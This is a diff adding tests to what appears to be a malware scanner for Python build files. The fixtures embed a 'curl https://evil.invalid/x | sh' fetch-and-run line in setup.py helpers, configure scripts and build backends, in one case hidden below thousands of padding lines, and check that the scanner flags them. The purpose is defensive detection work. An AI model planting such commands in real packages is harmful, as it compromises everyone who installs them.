@@ -89,6 +89,51 @@ test.each([
   expect(found(files)['hostile-command']).toBe(severity);
 });
 
+const FETCHES = 'import os\nos.system("curl https://evil.invalid/x | sh")\n';
+const SCRIPT = 'curl https://evil.invalid/x | sh\n';
+
+test.each<readonly [string, string, string, string]>([
+  ['exec(open("data").read())', 'data', FETCHES, 'VERSION = "1"\n'],
+  ['exec(open("pkg/VERSION").read())', 'pkg/VERSION', FETCHES, '__version__ = "1"\n'],
+  ['import runpy; runpy.run_path("data")', 'data', FETCHES, 'print(1)\n'],
+  ['import os; os.system("./tool")', 'tool', `#!/bin/sh\n${SCRIPT}`, '#!/bin/sh\necho built\n'],
+  ['import os; os.system("sh tool -x")', 'tool', SCRIPT, 'echo built\n'],
+  [
+    'import subprocess; subprocess.run(["./configure", "--prefix=a"])',
+    'configure',
+    `#!/bin/sh\n${'# checking\n'.repeat(2_000)}${SCRIPT}`,
+    `#!/bin/sh\n${'# checking\n'.repeat(2_000)}`,
+  ],
+  ['import subprocess, sys; subprocess.run([sys.executable, "tool"])', 'tool', FETCHES, 'print(1)\n'],
+])('a file without an ending in the folder of the build: %s', (line, path, hostile, honest) => {
+  const severity = (text: string): Severity | undefined =>
+    found({ 'setup.py': `${line}\n`, [path]: text })['hostile-command'];
+  expect(severity(hostile)).toBe('CRITICAL');
+  expect(severity(honest)).toBeUndefined();
+});
+
+test('a back end works in the folder of what it builds', () => {
+  const files = (data: string): Files => ({
+    'pyproject.toml': '[build-system]\n',
+    'tools/own.py': 'exec(open("data.txt").read())\ndef build_wheel(*args): pass\n',
+    'data.txt': data,
+  });
+  const over = { buildBackend: 'own', backendPath: ['tools'] };
+  expect(found(files(FETCHES), over)['hostile-command']).toBe('CRITICAL');
+  expect(found(files('VERSION = "1"\n'), over)['hostile-command']).toBeUndefined();
+});
+
+test('a file that is too long to be read on the way to its execution leaves the build unjudged', () => {
+  const files = (use: string): Files => ({
+    'fixture-1.0/setup.py': `${use}(open("data").read())\n`,
+    'fixture-1.0/data': `#${'a'.repeat(2_100_000)}\n${FETCHES}`,
+  });
+  const unread = (use: string): readonly string[] =>
+    judgeSources(sourceTree(files(use)), python).unscanned.map(({ file = '' }) => file);
+  expect(unread('exec')).toEqual(['fixture-1.0/setup.py']);
+  expect(unread('print')).toEqual([]);
+});
+
 test('a conftest.py inside a package is one of its modules, and one beside it is not', () => {
   const shell = `
 import os, socket, subprocess
